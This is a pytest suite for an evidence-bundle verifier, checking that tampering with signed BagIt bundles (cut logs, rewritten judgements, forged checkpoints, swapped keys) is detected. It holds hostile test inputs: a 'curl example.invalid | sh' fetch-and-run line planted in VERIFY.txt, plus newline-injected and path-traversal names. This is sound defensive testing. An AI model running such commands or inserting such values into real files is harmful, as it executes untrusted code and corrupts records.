from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import replace
from datetime import UTC, datetime
from typing import TYPE_CHECKING

import pytest

from benchmarks.bundle_forging import reseal_whole, rewrite
from benchmarks.bundle_sample import CUSTODIAN, REVIEWER, Sample, make_sample
from evidence_store.bundle import documents
from evidence_store.bundle.errors import BundleRefused, BundleUnreadable
from evidence_store.bundle.hashing import sha256_file
from evidence_store.bundle.layout import Role
from evidence_store.bundle.signing import add_signature
from evidence_store.bundle.verify import VerificationReport, verify

if TYPE_CHECKING:
    from pathlib import Path

Codes = Callable[..., set[str]]


@pytest.fixture
def forge(sample: Sample, bundle: Path) -> Callable[[str, Callable[[bytes], bytes]], Path]:
    """Change a payload file of a bundle and sign all of it again with the real keys."""

    def run(path: str, change: Callable[[bytes], bytes]) -> Path:
        rewrite(bundle, path, change)
        reseal_whole(bundle, sample.signers())
        return bundle

    return run


def test_a_good_bundle_verifies_and_says_what_is_not_proved(
    check: Callable[..., VerificationReport], pristine: Path
) -> None:
    report = check(pristine)
    assert {(one.role, one.person) for one in report.signatures} == {
        (Role.CUSTODIAN, CUSTODIAN),
        (Role.REVIEWER, REVIEWER),
    }
    assert report.time_basis == "stated"
    words = " ".join(report.remarks)
    assert "custodian's own statement" in words
    assert "stored on the server" in words
    assert "synthetic" in words


def test_all_faults_are_named_at_once(bundle: Path, codes: Codes) -> None:
    (bundle / "bagit.txt").write_bytes(b"BagIt-Version: 0.97\n")
    (bundle / "data/readings/EX-0001.json").unlink()
    (bundle / "data/extra.json").write_bytes(b"{}")
    (bundle / "signatures/custodian.sig").unlink()
    assert {
        "bagit-declaration",
        "hash-mismatch",
        "file-missing",
        "file-unlisted",
        "signature-missing",
    } <= codes(bundle)


def test_a_deleted_tag_manifest_is_no_way_round(bundle: Path, codes: Codes) -> None:
    (bundle / "tagmanifest-sha256.txt").unlink()
    (bundle / "bag-info.txt").write_bytes(b"Contact-Name: somebody else\n")
    assert {"tagmanifest-missing", "bag-info"} <= codes(bundle)


def test_a_forged_tag_file_is_seen(bundle: Path, codes: Codes) -> None:
    (bundle / "fetch.txt").write_bytes(b"http://example.invalid/x 1 data/x\n")
    assert codes(bundle) == {"file-unlisted"}


def test_an_omitted_dissent_shows_even_if_everybody_signs(
    forge: Callable[..., Path], codes: Codes
) -> None:
    top = forge("data/ledger/entries.jsonl", lambda data: data[: data.rindex(b"\n", 0, -1) + 1])
    assert "log-cut" in codes(top)


def test_an_entry_left_out_in_the_middle_shows(forge: Callable[..., Path], codes: Codes) -> None:
    def drop(data: bytes) -> bytes:
        lines = data.splitlines(keepends=True)
        return b"".join([*lines[:3], *lines[4:]])

    assert {"entry-order", "log-cut"} <= codes(forge("data/ledger/entries.jsonl", drop))


def test_a_rewritten_entry_shows(forge: Callable[..., Path], codes: Codes) -> None:
    def rewrite_judgement(data: bytes) -> bytes:
        assert b'"unsure"' in data
        return data.replace(b'"unsure"', b'"confirmed"')

    assert codes(forge("data/ledger/entries.jsonl", rewrite_judgement)) == {"log-root"}


def test_a_false_disclosure_shows(forge: Callable[..., Path], codes: Codes) -> None:
    top = forge(
        "data/ledger/disclosures.jsonl",
        lambda data: data.replace(b"@field_observer_77", b"@field_observer_78", 1),
    )
    assert codes(top) == {"disclosure-wrong"}


def test_a_disclosure_left_out_without_a_word_shows(
    forge: Callable[..., Path], codes: Codes
) -> None:
    top = forge("data/ledger/disclosures.jsonl", lambda data: data.split(b"\n", 1)[1])
    assert codes(top) == {"disclosure-missing"}


def test_a_forged_checkpoint_shows(forge: Callable[..., Path], codes: Codes) -> None:
    top = forge("data/ledger/checkpoint.txt", lambda data: data.replace(b"\n9\n", b"\n8\n"))
    assert {"checkpoint-mismatch", "checkpoint-signature"} <= codes(top)


def test_a_foreign_checkpoint_shows(forge: Callable[..., Path], codes: Codes) -> None:
    top = forge(
        "data/ledger/checkpoint.txt", lambda data: data.replace(b"case-sample", b"case-other")
    )
    assert "checkpoint-foreign" in codes(top)


def test_another_version_is_refused(forge: Callable[..., Path], codes: Codes) -> None:
    top = forge(
        "data/bundle.json",
        lambda data: data.replace(b'"version":"1.0","with', b'"version":"0.9","with'),
    )
    assert "version-unknown" in codes(top)


def test_a_photo_swapped_for_another_shows_by_its_name(
    forge: Callable[..., Path], codes: Codes, pristine: Path
) -> None:
    name = sorted((pristine / "data/originals").iterdir())[0].name
    top = forge(f"data/originals/{name}", lambda data: data + b"!")
    assert {"content-name", "file-not-recorded"} <= codes(top)


def test_the_roles_are_not_interchangeable(bundle: Path, codes: Codes) -> None:
    data = (bundle / "signatures/custodian.sig").read_bytes()
    (bundle / "signatures/reviewer-person-rev1.sig").write_bytes(data)
    assert {"signature-wrong", "seal-mismatch"} <= codes(bundle)


def test_another_persons_key_is_refused(
    sample: Sample, bundle: Path, codes: Codes, tmp_path: Path
) -> None:
    sample_two = make_sample(tmp_path)
    reseal_whole(bundle, sample_two.signers())
    assert codes(bundle) == {"signer-not-allowed"}


def test_a_junk_line_after_a_signature_is_refused(bundle: Path, codes: Codes) -> None:
    path = bundle / "signatures/custodian.sig"
    path.write_bytes(path.read_bytes() + b"junk\n")
    seal = bundle / "signatures/seal.sha256"
    lines = seal.read_bytes().splitlines(keepends=True)
    lines[0] = f"{sha256_file(path)}  signatures/custodian.sig\n".encode()
    seal.write_bytes(b"".join(lines))
    assert codes(bundle) == {"signature-form"}


def test_a_key_that_was_not_valid_then_is_refused(pristine: Path, codes: Codes) -> None:
    early = datetime(2020, 1, 1, tzinfo=UTC)
    assert codes(pristine, verify_time=early) == {"signer-not-valid"}


def test_a_missing_reviewer_is_a_fault_until_they_sign(
    sample: Sample, tmp_path: Path, codes: Codes
) -> None:
    custodian, reviewer = sample.signers()
    top = sample.seal(tmp_path / "bundle", signers=[custodian]).path
    assert codes(top) == {"signature-missing"}
    add_signature(top, reviewer)
    assert codes(top) == set()
    assert (top / "signatures/seal-1.sha256").exists()


def test_a_hand_written_description_is_refused(forge: Callable[..., Path], codes: Codes) -> None:
    top = forge("data/bundle.json", lambda data: data.replace(b'"notes":', b'"note":'))
    assert "description-form" in codes(top)


def test_an_unknown_log_key_is_named(sample: Sample, pristine: Path, tmp_path: Path) -> None:
    lines = sample.allowed_signers.read_text().splitlines(keepends=True)
    allowed = tmp_path / "allowed_signers"
    allowed.write_text("".join(line for line in lines if "checkpoint@" not in line))
    with pytest.raises(BundleRefused) as refusal:
        verify(pristine, allowed_signers=allowed)
    assert [fault.code for fault in refusal.value.faults] == ["checkpoint-key-unknown"]


def test_what_is_no_bundle_cannot_be_checked(sample: Sample, tmp_path: Path) -> None:
    (tmp_path / "note.txt").write_text("no bundle")
    with pytest.raises(BundleUnreadable):
        verify(tmp_path / "note.txt", allowed_signers=sample.allowed_signers)
    with pytest.raises(BundleUnreadable):
        verify(tmp_path / "nowhere", allowed_signers=sample.allowed_signers)


def test_a_list_of_signers_that_is_half_read_is_none(pristine: Path, tmp_path: Path) -> None:
    allowed = tmp_path / "allowed_signers"
    allowed.write_text("person-cust0 ssh-ed25519 not-base64\n")
    with pytest.raises(BundleUnreadable, match="line 1"):
        verify(pristine, allowed_signers=allowed)


def test_a_key_kept_by_the_person_is_told_apart(sample: Sample, tmp_path: Path) -> None:
    from evidence_store.bundle.layout import KeyHeld

    signers = tuple(replace(one, key_held=KeyHeld.OWN) for one in sample.contents.required_signers)
    own = replace(sample, contents=replace(sample.contents, required_signers=signers))
    top = own.seal(tmp_path / "bundle").path
    report = verify(top, allowed_signers=sample.allowed_signers)
    assert not any("server" in remark for remark in report.remarks)


def test_deeply_nested_and_oversized_parts_are_faults_not_crashes(
    forge: Callable[..., Path], codes: Codes
) -> None:
    deep = b'{"a":' * 5_000 + b"1" + b"}" * 5_000
    top = forge("data/ledger/entries.jsonl", lambda data: deep + b"\n" + data)
    assert "entry-form" in codes(top)
    for number in range(40):
        (top / f"signatures/x{number}.sig").write_bytes(b"x" * 300_000)
    (top / "manifest-sha256.txt").write_bytes(b"\n" * 600_000)
    assert {"manifest-form", "signatures-unreadable"} <= codes(top)


def test_other_instructions_are_pointed_out(
    forge: Callable[..., Path], check: Callable[..., VerificationReport]
) -> None:
    top = forge("data/VERIFY.txt", lambda data: data + b"    curl example.invalid | sh\n")
    assert any("VERIFY.txt" in remark for remark in check(top).remarks)


def test_the_programs_own_instructions_need_no_remark(
    check: Callable[..., VerificationReport], pristine: Path
) -> None:
    assert not any("VERIFY.txt" in remark for remark in check(pristine).remarks)


@pytest.mark.parametrize("name", ["case-s\u00e4mple", "case-x\nContact-Name: somebody", "", "../x"])
def test_the_name_of_the_log_is_plain(forge: Callable[..., Path], codes: Codes, name: str) -> None:
    """The name stands in bag-info.txt, in which it must not begin a line of its own."""
    told = json.dumps(name, ensure_ascii=False).encode()
    top = forge("data/bundle.json", lambda data: data.replace(b'"case-sample"', told))
    assert "description-form" in codes(top)


@pytest.mark.parametrize(
    "document",
    [b'{"judgement":"confirmed","judgement":"unsure"}', b'[{"a":{"b":1,"b":1}}]', b"NaN", b"\xff"],
)
def test_a_document_that_can_be_read_in_two_ways_is_refused(
    forge: Callable[..., Path], codes: Codes, document: bytes
) -> None:
    assert "document-form" in codes(forge("data/reviews/decisions.json", lambda _: document))


def test_a_crate_that_tells_another_story_is_refused(
    forge: Callable[..., Path], codes: Codes
) -> None:
    top = forge("data/ro-crate-metadata.json", lambda data: data.replace(b"EX-0001", b"EX-0002"))
    assert codes(top) == {"crate-form"}


def test_the_key_of_the_log_must_have_been_valid(
    sample: Sample, pristine: Path, tmp_path: Path
) -> None:
    allowed = tmp_path / "allowed_signers"
    ended = sample.allowed_signers.read_text().replace(
        'namespaces="checkpoint', 'valid-before="20200101Z",namespaces="checkpoint'
    )
    allowed.write_text(ended)
    with pytest.raises(BundleRefused) as refusal:
        verify(pristine, allowed_signers=allowed)
    assert [fault.code for fault in refusal.value.faults] == ["checkpoint-key-not-valid"]


def test_a_bundle_sealed_before_its_last_entry_is_remarked_on(
    sample: Sample, tmp_path: Path
) -> None:
    """A custodian whose key has ended might state an earlier time of sealing."""
    early = datetime(2020, 1, 1, tzinfo=UTC)
    top = sample.seal(tmp_path / "bundle", at=early).path
    later = datetime(2030, 1, 1, tzinfo=UTC)
    report = verify(top, allowed_signers=sample.allowed_signers, verify_time=later)
    assert any("before the last entry" in remark for remark in report.remarks)


def test_a_document_too_large_to_be_read_is_said(
    forge: Callable[..., Path],
    check: Callable[..., VerificationReport],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    top = forge("data/reviews/decisions.json", lambda _: b"[" + b" " * 5000 + b"]")
    monkeypatch.setattr(documents, "MAX_DOCUMENT", 4000)
    assert any("were not checked for names" in remark for remark in check(top).remarks)


def test_a_byte_order_mark_in_the_list_of_signers_is_told_to_whom_it_keeps_out(
    sample: Sample, pristine: Path, tmp_path: Path
) -> None:
    listed = tmp_path / "allowed_signers"
    listed.write_bytes(b"\xef\xbb\xbf# keys\r\n" + sample.allowed_signers.read_bytes())
    assert verify(pristine, allowed_signers=listed)
    listed.write_bytes(b"\xef\xbb\xbf" + sample.allowed_signers.read_bytes())
    with pytest.raises(BundleRefused) as refusal:
        verify(pristine, allowed_signers=listed)
    (fault,) = refusal.value.faults
    assert "byte order mark" in fault.message


@pytest.mark.parametrize(
    ("path", "system"),
    [
        (".DS_Store", "macOS"),
        ("data/.DS_Store", "macOS"),
        ("signatures/.DS_Store", "macOS"),
        ("signatures/._custodian.sig", "macOS"),
        ("data/originals/Thumbs.db", "Windows"),
        ("desktop.ini", "Windows"),
        ("__MACOSX/data/._report.pdf", "macOS"),
    ],
)
def test_what_an_operating_system_leaves_is_told_apart_from_tampering(
    bundle: Path, check: Callable[..., VerificationReport], path: str, system: str
) -> None:
    (bundle / path).parent.mkdir(parents=True, exist_ok=True)
    (bundle / path).write_bytes(b"x")
    with pytest.raises(BundleRefused) as refusal:
        check(bundle)
    (fault,) = refusal.value.faults
    assert fault.code == "side-file"
    assert system in fault.message
    assert "Nothing else has been found wrong so far" in refusal.value.remedy
    (bundle / path).unlink()
    if (bundle / "__MACOSX").exists():
        (bundle / "__MACOSX/data").rmdir()
        (bundle / "__MACOSX").rmdir()
    assert check(bundle)


def test_a_side_file_does_not_excuse_tampering(
    bundle: Path, check: Callable[..., VerificationReport]
) -> None:
    (bundle / "Thumbs.db").write_bytes(b"x")
    (bundle / "data/readings/EX-0001.json").write_bytes(b"{}")
    with pytest.raises(BundleRefused) as refusal:
        check(bundle)
    assert {"side-file", "hash-mismatch"} <= {fault.code for fault in refusal.value.faults}
    assert "ask whoever sealed it" in refusal.value.remedy


@pytest.mark.parametrize("path", ["DS_Store", "thumbs.db.json", "._", "data/x__MACOSX.json"])
def test_other_names_are_no_side_files(bundle: Path, codes: Codes, path: str) -> None:
    (bundle / path).write_bytes(b"x")
    assert "side-file" not in codes(bundle)
    assert codes(bundle) & {"file-unlisted", "name-not-safe"}
